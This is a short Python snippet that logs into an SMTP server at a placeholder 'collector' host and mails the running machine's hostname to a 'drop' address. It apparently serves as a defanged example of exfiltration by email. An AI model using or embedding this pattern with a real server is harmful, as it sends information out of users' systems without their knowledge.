import smtplib, socket
s = smtplib.SMTP("smtp.collector.invalid", 587)
s.login("drop@collector.invalid", "inert-password")
s.sendmail("drop@collector.invalid", "drop@collector.invalid", socket.gethostname())
